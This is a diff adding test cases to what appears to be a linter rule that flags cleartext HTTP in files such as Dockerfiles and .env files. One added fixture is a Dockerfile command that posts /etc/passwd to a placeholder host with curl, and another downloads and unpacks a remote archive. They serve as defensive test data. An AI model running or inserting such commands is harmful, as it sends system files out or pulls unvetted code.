@@ -35,6 +35,12 @@ testRule(cleartext, {
       says: "without --proto '=https'",
     },
     {
+      path: 'Dockerfile',
+      code: 'FROM node\nRUN curl -d @/etc/passwd http://example.org',
+      at: [2, 26],
+      clause: 'security.transit',
+    },
+    {
       path: '.env',
       code: 'API=http://api.example.org/v1?key=s3cret',
       at: [1, 1],
@@ -49,6 +55,11 @@ testRule(cleartext, {
     },
   ],
   notes: [
+    {
+      path: 'Dockerfile',
+      code: 'FROM node\nRUN curl -fsS http://example.org/x.tgz | tar xz',
+      at: [2, 15],
+    },
     { code: `await fetch(\`http://\${host}/orders\`);`, at: [1, 13] },
     {
       path: 'compose.yaml',
